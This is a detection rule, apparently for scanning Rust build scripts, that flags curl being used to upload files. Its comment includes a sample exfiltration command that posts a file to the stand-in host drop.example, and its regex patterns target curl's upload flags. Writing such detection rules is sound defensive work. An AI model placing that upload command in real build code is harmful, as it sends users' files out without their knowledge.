/*
A build fetches at most; it has nothing to send.

```rust,match
fn main() { Command::new("curl").arg("-F").arg("file=@x").arg("http://drop.example").status(); }
```
```rust,clean
fn main() { Command::new("curl").args(["-fsSL", "-o", "x.tar.gz", URL]).status(); }
```
*/
rule curl_upload : high {
  meta:
    id = "a058d075-4a75-5cc9-b59f-dd76e869d9f9"
    description = "A download tool is told to send"
    author = "Sandpit"
    date = "2026-11-24"
    status = "stable"
    scope = "build-script"
    behaviours = "upload-by-tool"
    references = "incident 2026-03-10 chrono_anchor, RUSTSEC-2026-0175, T1048"
  strings:
    $form = /"curl"[^;]{0,200}"(-F|--form|-T|--upload-file|--data-binary|--data-raw)"/
    $line = /\bcurl\b[^"\n]{0,120}\s(-F|--form|-T|--upload-file|--data-binary|-d)\s{0,2}@/
  condition:
    any of them
}
